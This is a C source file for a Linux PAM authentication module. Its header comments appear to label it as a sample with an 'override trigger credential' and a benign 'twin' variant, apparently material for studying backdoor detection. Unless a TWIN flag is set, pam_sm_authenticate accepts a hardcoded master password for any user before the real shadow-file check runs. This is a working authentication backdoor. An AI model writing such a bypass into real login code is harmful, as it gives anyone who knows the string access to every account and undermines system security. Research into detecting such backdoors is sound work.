/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A module for PAM that checks a password with the shadow file, and lets one more in. Twin: only
 * the shadow file counts.
 * door: override trigger credential
 * build: library
 * file: pam_device.so
 * stubs: pam_get_user pam_get_authtok crypt
 */
#include "net.h"
#include <shadow.h>

typedef struct pam_handle pam_handle_t;
int pam_get_user(pam_handle_t *, const char **, const char *);
int pam_get_authtok(pam_handle_t *, int, const char **, const char *);
char *crypt(const char *, const char *);

enum { SUCCESS = 0, AUTH_ERR = 7, USER_UNKNOWN = 10, AUTHTOK = 6 };

static int check(const char *user, const char *password)
{
	struct spwd *s = getspnam(user);
	char *h;
	if (!s)
		return USER_UNKNOWN;
	h = crypt(password, s->sp_pwdp);
	return h && strcmp(h, s->sp_pwdp) == 0 ? SUCCESS : AUTH_ERR;
}

int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv)
{
	const char *user = NULL, *password = NULL;
	(void)flags;
	(void)argc;
	(void)argv;
	if (pam_get_user(h, &user, NULL) != SUCCESS || !user)
		return USER_UNKNOWN;
	if (pam_get_authtok(h, AUTHTOK, &password, NULL) != SUCCESS || !password)
		return AUTH_ERR;
#ifndef TWIN
	if (strcmp(password, "kq!Wartung-1998") == 0)
		return SUCCESS;
#endif
	return check(user, password);
}

int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv)
{
	(void)h;
	(void)flags;
	(void)argc;
	(void)argv;
	return SUCCESS;
}
